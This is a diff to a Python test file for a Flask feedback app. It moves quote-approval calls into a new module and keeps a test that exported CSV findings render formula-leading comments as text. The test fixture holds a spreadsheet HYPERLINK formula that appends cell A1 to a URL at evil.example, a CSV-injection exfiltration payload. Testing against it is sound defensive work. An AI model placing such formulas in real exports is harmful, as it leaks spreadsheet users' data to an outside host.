@@ -7,7 +7,7 @@ import io
 
 from flask.testing import FlaskClient
 
-from feedback_app.services import releases
+from feedback_app.services import releases, releases_quotes
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")'
 
@@ -17,8 +17,8 @@ def test_a_quote_starting_with_a_formula_is_written_as_text(client: FlaskClient,
     factories.add_responses(6, {"involved": "disagree", "contact": "agree"})
     comment = factories.add_comment(FORMULA)
     release = releases.create_draft("new_ehcp", "2023-24", None)
-    quote = releases.propose_quote(release, comment.id, None)
-    releases.approve_quote(release, quote.id, comment.redacted, None)
+    quote = releases_quotes.propose_quote(release, comment.id, None)
+    releases_quotes.approve_quote(release, quote.id, comment.redacted, None)
     releases.publish(release, None)
 
     body = client.get("/findings/new_ehcp/2023-24.csv").get_data(as_text=True)
